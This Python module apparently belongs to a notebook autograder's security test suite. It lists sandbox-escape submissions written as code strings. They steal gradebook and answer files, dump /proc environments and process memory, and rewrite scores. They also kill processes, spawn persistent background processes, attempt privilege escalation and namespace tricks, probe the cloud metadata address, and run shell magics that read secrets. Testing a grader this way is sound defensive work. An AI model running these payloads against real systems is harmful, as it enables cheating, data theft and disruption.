"""Submissions that look for what they must not see, touch what is not theirs, or reach beyond their sandbox."""

from __future__ import annotations

from attack import Attack

_LOOT = """
import os
def loot(*paths):
    for path in paths:
        try:
            if os.path.isdir(path):
                print("LISTED", path, sorted(os.listdir(path))[:20])
            with open(path, "rb") as file:
                print("READ", path, file.read(4000))
        except OSError as error:
            pass
"""

THEFTS = (
    Attack(
        "reads the course by its known paths",
        _LOOT
        + """
course = "{course}"
loot(*(course + part for part in ("", "/gradebook.db", "/course.toml", "/grading/secret", "/grading/rounds.json",
    "/grading/references", "/grading/records", "/source/77_target/77_target.ipynb", "/nbgrader_config.py",
    "/submitted/other/77_target/77_target.ipynb", "/autograded/other/77_target/77_target.ipynb")))
loot("{clone}", "{clone}/ampcourse/exercises/answers/__init__.py", "{clone}/notebooks/source", "{exercises}",
     "{exercises}/answers/target.py")""",
        silent=("LISTED {course}", "READ {course}", "READ {clone}", "'notebooks'"),
    ),
    Attack(
        "walks through the whole file system",
        """
import os
wanted = ("gradebook.db", "secret", "rounds.json", "course.toml", "nbgrader_config.py", "target.py", "kernel.json")
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        folders[:] = []
    for name in files:
        if name in wanted or name.endswith((".ipynb", ".db", ".log")) or "answers" in folder.split("/"):
            path = os.path.join(folder, name)
            try:
                print("FOUND", path, open(path, "rb").read(3000))
            except OSError as error:
                print("SEEN", path, error)""",
    ),
    Attack(
        "imports the judges",
        """
import importlib
for name in ("ampcourse.exercises.answers", "ampcourse.exercises.answers.target", "ampcourse.exercises.engine",
             "ampcourse.exercises.check", "ampcourse.grading", "ampcourse.grading.rounds", "target", "answers.target"):
    try:
        module = importlib.import_module(name)
        print("IMPORTED", name, vars(module).keys())
    except BaseException as error:
        print(type(error).__name__)
import sys
for name, module in list(sys.modules.items()):
    for attribute in ("EXERCISES", "CANARY_ANSWER", "Question", "judge"):
        if attribute in vars(module):
            print("IMPORTED", name, attribute, vars(module)[attribute])""",
        silent=("IMPORTED",),
    ),
    Attack(
        "reads the grader's environment and command line",
        _LOOT
        + """
print("ENVIRONMENT", dict(os.environ))
for pid in ["self", "thread-self", *filter(str.isdigit, os.listdir("/proc"))]:
    loot(*(f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "cwd", "root", "maps", "mountinfo")))
loot("/proc/1/root/{course}/gradebook.db", "/proc/self/cwd/../../gradebook.db")""",
    ),
    Attack(
        "reads the memory of other processes",
        """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) in (1, os.getpid()):
        continue
    print("PROCESS", pid, open(f"/proc/{pid}/comm").read())
    try:
        print("MEMORY", open(f"/proc/{pid}/mem", "rb").read(1))
    except OSError:
        pass""",
        silent=("MEMORY",),
    ),
    Attack(
        "writes the gradebook, the records and the source",
        """
import sqlite3
for name in ("gradebook.db", "grading/records/77_target/attacker.json", "grading/secret", "pwned",
             "source/77_target/77_target.ipynb", "autograded/attacker/77_target/77_target.ipynb"):
    try:
        with open("{course}/" + name, "wb") as file:
            file.write(b"mine")
    except OSError:
        pass
try:
    book = sqlite3.connect("{course}/gradebook.db")
    book.execute("update grade set manual_score = 100")
    book.commit()
except sqlite3.Error:
    pass""",
    ),
    Attack(
        "writes everywhere that it can",
        """
import os
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        folders[:] = []
        continue
    if folder.count("/") > 3:
        folders[:] = []
    try:
        open(os.path.join(folder, "pwned-by-a-student"), "w").close()
    except OSError:
        pass
for base in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state", "/proc/1/oom_score_adj"):
    try:
        open(base, "w").write("|/bin/false")
    except OSError:
        pass""",
    ),
    Attack(
        "replaces the sockets by links to files of the grader",
        """
import glob, os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
for place in {folder, *glob.glob("/tmp/*"), *glob.glob("/run/*")}:
    for name in glob.glob(os.path.join(place, "*")):
        try:
            os.unlink(name)
            os.symlink("{course}/gradebook.db", name)
        except OSError:
            pass""",
    ),
    Attack(
        "fills the folder of the sockets with files",
        """
import os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
for number in range(20_000):
    try:
        with open(os.path.join(folder, f"filler-{number}"), "wb") as file:
            file.write(b"x" * 100_000)
    except OSError:
        break""",
    ),
    Attack(
        "looks for other kernels and talks to them",
        """
import glob, json, os, socket
found = [p for pattern in ("/tmp/**", "/run/**", "/var/**", "/home/**", "/root/**", "/spool/**", "/box/**")
         for p in glob.glob(pattern, recursive=True)]
from ipykernel.connect import get_connection_file
own = os.path.realpath(os.path.dirname(get_connection_file()))
for path in found:
    if os.path.realpath(path).startswith(own):
        continue
    if path.endswith(".json"):
        print("OTHER", path, open(path).read())
    try:
        link = socket.socket(socket.AF_UNIX)
        link.connect(path)
        print("OTHER", path)
    except OSError:
        pass
for line in open("/proc/net/unix"):
    if "@" in line:
        print("OTHER abstract", line)""",
        silent=("OTHER",),
    ),
    Attack(
        "reaches the network",
        """
import socket, urllib.request
def reach(host, port):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"hello")
        print("REACHED", host)
    except OSError:
        pass
reach("127.0.0.1", {port})
reach("localhost", {port})
reach("{address}", {port})
reach("169.254.169.254", 80)
reach("1.1.1.1", 53)
try:
    print("REACHED", socket.gethostbyname("example.org"))
except OSError:
    pass
for family in (socket.AF_INET, socket.AF_INET6):
    try:
        link = socket.socket(family, socket.SOCK_DGRAM)
        link.sendto(b"x", ("1.1.1.1", 53))
        print("REACHED by UDP")
    except OSError:
        pass
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print("REACHED raw")
except OSError:
    pass""",
        silent=("REACHED",),
    ),
    Attack(
        "leaves a process behind that edits results later",
        """
import os, sys, subprocess
code = '''
import glob, os, signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    time.sleep(0.2)
    for path in glob.glob("{course}/**", recursive=True) + ["/tmp/survivor"]:
        try:
            open(path, "a").write("survivor")
        except OSError:
            pass
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "{marker}"])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", code, "{marker}"], start_new_session=True)""",
    ),
    Attack(
        "kills whoever it can reach",
        """
import os, signal
for pid in (os.getppid(), -1, *map(int, filter(str.isdigit, os.listdir("/proc")))):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass""",
    ),
    Attack(
        "makes namespaces and mounts of its own",
        """
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x10000000 | 0x00020000):
    if libc.unshare(flag) == 0:
        print("UNSHARED", flag)
calls = (b"/", b"/tmp", None, 0x1000), (b"tmpfs", b"/usr", b"tmpfs", 0), (b"p", b"/proc", b"proc", 0)
for call in calls:
    if libc.mount(*call, None) == 0:
        print("MOUNTED", call)
if libc.chroot(b"/tmp") == 0:
    print("CHROOTED")
for command in ("unshare -Ur true", "bwrap --ro-bind / / true", "mount -t tmpfs x /mnt", "nsenter -t 1 -a true"):
    if subprocess.run(command, shell=True, capture_output=True).returncode == 0:
        print("RAN", command)""",
        silent=("UNSHARED", "MOUNTED", "CHROOTED", "RAN"),
    ),
    Attack(
        "becomes somebody else",
        """
import os, subprocess
for number in (0, 1, 1000, 65534):
    for become in (os.setuid, os.setgid, os.seteuid):
        try:
            become(number)
            if os.geteuid() == 0:
                print("BECAME", number)
        except OSError:
            pass
for command in ("su -c id", "sudo -n id", "ping -c1 -W1 127.0.0.1", "newuidmap", "passwd -d root"):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL)
    if done.returncode == 0:
        print("BECAME", command, done.stdout)
status = open("/proc/self/status").read()
for line in status.splitlines():
    if line.startswith(("CapEff", "CapPrm", "CapBnd", "CapAmb")) and int(line.split()[1], 16):
        print("BECAME capable", line)
if "NoNewPrivs:\\t1" not in status:
    print("BECAME able to gain privileges")""",
        silent=("BECAME",),
    ),
    Attack(
        "lifts its own limits",
        """
import resource
for name in ("RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
    kind = getattr(resource, name)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("LIFTED", name)
    except (OSError, ValueError):
        pass""",
        silent=("LIFTED",),
    ),
    Attack(
        "asks a magic for a shell",
        """
!id; cat {course}/gradebook.db {course}/grading/secret; ls {course}; kill -9 $PPID
%ls {course}
%run {course}/source/77_target/77_target.ipynb
%load {exercises}/answers/target.py""",
    ),
    Attack(
        "links in the submission's folder point to the grader's files",
        """
import os
for name in ("results", "77_target.ipynb", "link.txt", "notes"):
    try:
        os.symlink("{course}/gradebook.db", name)
    except OSError:
        pass
print(open("link.txt", "rb").read() if os.path.exists("link.txt") else "no link")""",
    ),
    Attack(
        "a question in another student's name",
        """
import os
os.environ["USER"] = os.environ["NBGRADER_STUDENT"] = "other"
for name in ("LOGNAME", "JUPYTERHUB_USER"):
    os.environ[name] = "other"
""",
    ),
)
